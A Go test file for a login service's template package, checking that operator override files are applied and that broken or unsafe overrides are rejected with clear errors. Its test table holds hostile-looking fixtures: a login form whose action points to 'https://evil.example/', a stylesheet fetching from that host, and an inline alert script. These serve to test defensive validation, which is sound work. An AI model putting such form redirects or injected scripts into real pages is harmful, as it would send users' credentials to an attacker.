package templates

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// own writes files into a directory of an operator.
func own(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, source := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(source), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// builtin is a built-in file, with a change.
func builtin(t *testing.T, name, before, after string) string {
	t.Helper()
	source, err := files.ReadFile(name)
	if err != nil || !strings.Contains(string(source), before) {
		t.Fatalf("%s: no %q: %v", name, before, err)
	}
	return strings.Replace(string(source), before, after, 1)
}

func TestADirectoryOverridesWhatIsInIt(t *testing.T) {
	with := branding
	with.Dir = own(t, map[string]string{
		"pages/unknown.html":     builtin(t, "pages/unknown.html", "</h1>", "</h1><p>Ask the porter.</p>"),
		"pages/layout.html":      builtin(t, "pages/layout.html", "<main>", `<main id="ours">`),
		"mails/login.txt":        builtin(t, "mails/login.txt", `{{.T "mail.forward"}}`, "Yours, the porter."),
		"messages/en.yaml":       "login:\n  title: Knock, knock\n",
		"messages/de.yaml":       "# nothing but this\n",
		"messages/pl.yaml":       `when.minutes: {one: "{{.Count}} min", few: "{{.Count}} min", many: "{{.Count}} min", other: "{{.Count}} min"}`,
		"static/style.css":       `.brand::after { content: "}"; } /* } */`,
		".git/HEAD":              "x",
		"pages/.login.html.swp":  "x",
		"..2026_data/pages/x.md": "x",
	})
	s, err := New(with)
	if err != nil {
		t.Fatal(err)
	}
	if doc := render(t, s, sample{"unknown", Unknown{}, ""}); !strings.Contains(doc.text(), "Ask the porter.") || doc.tags("main")[0].get("id") != "ours" {
		t.Errorf("the page is not the operator's: %s", doc.text())
	}
	if doc := render(t, s, sample{"login", Login{}, ""}); doc.tags("h1")[0].text() != "Knock, knock" || doc.tags("main")[0].get("id") != "ours" {
		t.Errorf("the message is not the operator's: %s", doc.text())
	}
	if _, text, _, err := s.LoginMail(mails()["mail"]); err != nil || !strings.Contains(text, "Yours, the porter.") {
		t.Errorf("the mail is not the operator's: %v\n%s", err, text)
	}
	w := httptest.NewRecorder()
	s.Static().ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/static/style.css", nil))
	built, _ := files.ReadFile("static/style.css")
	if sheet := w.Body.String(); !strings.HasPrefix(sheet, string(built)) || !strings.HasSuffix(sheet, `/* } */`) || s.assets["style.css"].hash == site(t).assets["style.css"].hash {
		t.Error("the operator's style sheet does not follow the built-in one under an address of its own")
	}
	if doc := render(t, site(t), sample{"login", Login{}, ""}); doc.tags("h1")[0].text() != "Sign in" {
		t.Error("one instance changes the words of another")
	}
}

// A directory may be full of links, as Kubernetes mounts them.
func TestADirectoryOfLinks(t *testing.T) {
	target := own(t, map[string]string{"messages/en.yaml": "login: {title: Knock}"})
	dir := t.TempDir()
	if err := os.Symlink(filepath.Join(target, "messages"), filepath.Join(dir, "messages")); err != nil {
		t.Fatal(err)
	}
	s, err := New(Branding{Dir: dir})
	if err != nil || render(t, s, sample{"login", Login{}, ""}).tags("h1")[0].text() != "Knock" {
		t.Error(err)
	}
}

// What is wrong with a file is told at start: where it is, and how to mend it.
func TestBrokenOverridesAreToldAtStart(t *testing.T) {
	login, mailText, mailHTML := "pages/login.html", "mails/login.txt", "mails/login.html"
	for name, tc := range map[string]struct {
		file, source string
		want         []string
	}{
		"a name mistyped":            {"pages/logn.html", "", []string{"pages/logn.html: overrides nothing", "nearest name is pages/login.html"}},
		"in no folder":               {"style.css", "", []string{"style.css: overrides nothing", "static/style.css"}},
		"a folder too deep":          {"pages/x/login.html", "", []string{"pages/x: overrides nothing"}},
		"a language there is not":    {"messages/dr.yaml", "", []string{"messages/dr.yaml: overrides nothing", "messages/ar.yaml"}},
		"the script":                 {"static/sealpost.js", "", []string{"static/sealpost.js: cannot be overridden", "delete the file"}},
		"the frame":                  {"pages/check-session.html", "", []string{"cannot be overridden"}},
		"a template that ends early": {login, "{{define \"main\"}}\n{{if .Page.Create}}", []string{"pages/login.html:2: unexpected EOF"}},
		"a function there is not":    {login, "\n\n{{define \"main\"}}{{shout}}{{end}}", []string{"pages/login.html:3: function \"shout\" not defined"}},
		"a field there is not":       {login, builtin(t, login, "<h1>", "{{$.Page.Password}}<h1>"), []string{"pages/login.html:", "Password", "compare with the built-in file"}},
		"a value in a wrong place":   {login, builtin(t, login, "<h1>", "<b {{if .Create}}title=\"{{end}}>"), []string{"pages/login.html:"}},
		"a message there is not":     {login, builtin(t, login, "login.email", "login.emale"), []string{"pages/login.html:", "login.emale"}},
		"data-page":                  {"pages/layout.html", builtin(t, "pages/layout.html", `data-page="{{.Name}}"`, ""), []string{`pages/layout.html: <body data-page="login"> is missing`}},
		"the script is not loaded":   {"pages/layout.html", builtin(t, "pages/layout.html", `<script src="{{.Asset "sealpost.js"}}" defer></script>`, ""), []string{"<script src=", "is missing"}},
		"data-form":                  {login, builtin(t, login, ` data-form="email"`, ""), []string{`pages/login.html: <form data-form="email" method="post" action="/login"> is missing`, "as the built-in file does"}},
		"a form sent elsewhere":      {login, builtin(t, login, `action="/login"`, `action="https://evil.example/"`), []string{`<form data-form="email" method="post" action="/login"> is missing`}},
		"a hidden field":             {login, builtin(t, login, `<input type="hidden" name="request" value="{{.Request}}">`, ""), []string{`in the form "email", a field name="request" value="handle" is missing`}},
		"a field to fill in":         {"pages/account.html", builtin(t, "pages/account.html", `name="sure"`, `name="shure"`), []string{`in the form "delete", a field name="sure" value="yes" is missing (state account-delete)`}},
		"the code":                   {"pages/code.html", builtin(t, "pages/code.html", "{{.Code}}", ""), []string{"pages/code.html: <output data-code>042917 is missing"}},
		"a part of every page":       {"pages/parts.html", builtin(t, "pages/parts.html", `data-form="not-me"`, ""), []string{`pages/parts.html: <form data-form="not-me"`}},
		"a scope unsaid":             {"pages/consent.html", builtin(t, "pages/consent.html", `{{template "access" $}}`, ""), []string{`<li data-scope="email"> is missing`}},
		"reloading without script":   {"pages/sent.html", builtin(t, "pages/sent.html", `{{define "head"}}`, `{{define "heed"}}`), []string{`<meta http-equiv="refresh"`}},
		"an inline style":            {login, builtin(t, login, "<h1>", `<h1 style="color:red">`), []string{"pages/login.html: <h1 style=…> is refused", "static/style.css"}},
		"an inline script":           {login, builtin(t, login, "<h1>", "<script>alert(1)</script><h1>"), []string{"an inline <script> is refused"}},
		"a mail without its link":    {mailText, builtin(t, mailText, "{{.Mail.Link}}", ""), []string{"mails/login.txt: the link does not stand alone"}},
		"a mail that leads nowhere":  {mailHTML, "<p>Hello", []string{"mails/login.html: the link is missing", `<a href="{{.Mail.Link}}">`}},
		"a mail that is broken":      {mailHTML, "\n{{.Mail.Lnk}}", []string{"mails/login.html:2:", "Lnk"}},
		"a message mistyped":         {"messages/de.yaml", "login:\n  titel: Hallo\n", []string{"messages/de.yaml:2: login.titel is no message; the nearest is login.title"}},
		"a value left out":           {"messages/de.yaml", "sent:\n  title: Post\n  lead: Gesendet.\n", []string{`messages/de.yaml:3: sent.lead: other: it fills in [], want ["Email"]`}},
		"a broken placeholder":       {"messages/en.yaml", "sent: {lead: \"{{.Email}\"}", []string{"messages/en.yaml:1: sent.lead", "broken placeholder"}},
		"a plural form left out":     {"messages/pl.yaml", "when:\n  minutes: {one: \"{{.Count}} a\", other: \"{{.Count}} b\"}", []string{`messages/pl.yaml:2: when.minutes: it has the forms ["one" "other"], want ["few" "many" "one" "other"]`}},
		"nothing said":               {"messages/en.yaml", "login: {title: \" \"}", []string{"messages/en.yaml:1: login.title", "nothing is said"}},
		"no YAML":                    {"messages/en.yaml", "login:\n\ttitle: x", []string{"messages/en.yaml:2: "}},
		"twice":                      {"messages/en.yaml", "login:\n  title: x\n  title: y\n", []string{"messages/en.yaml:3: "}},
		"a rule left open":           {"static/style.css", "a { color: red }\n\nb {\n", []string{"static/style.css:3: this { is not closed"}},
		"a rule closed twice":        {"static/style.css", "/* {\n */ a { }\n}", []string{"static/style.css:3: this } closes nothing"}},
		"a font from elsewhere":      {"static/style.css", "\na { background: url(https://evil.example/x) }", []string{"static/style.css:2: pages fetch nothing from elsewhere"}},
	} {
		_, err := New(Branding{Dir: own(t, map[string]string{tc.file: tc.source})})
		if err == nil {
			t.Errorf("%s: nothing is told", name)
			continue
		}
		for _, want := range tc.want {
			if !strings.Contains(err.Error(), want) {
				t.Errorf("%s: %v, want %q", name, err, want)
			}
		}
	}
	if _, err := New(Branding{Dir: filepath.Join(t.TempDir(), "none")}); err == nil || !strings.Contains(err.Error(), "none") {
		t.Errorf("no directory: %v", err)
	}
	_, err := New(Branding{Dir: own(t, map[string]string{"a": "", "b": ""})})
	if err == nil || strings.Count(err.Error(), "overrides nothing") != 2 {
		t.Errorf("not all that is wrong is told: %v", err)
	}
}

// The built-in files override themselves: none of the checks is against them.
func TestTheBuiltInFilesPassAsOverrides(t *testing.T) {
	all := map[string]string{}
	for _, name := range overridable() {
		source, err := files.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		all[name] = string(source)
	}
	if len(all) < 35 {
		t.Fatalf("%d files", len(all))
	}
	if _, err := New(Branding{Dir: own(t, all)}); err != nil {
		t.Error(err)
	}
}
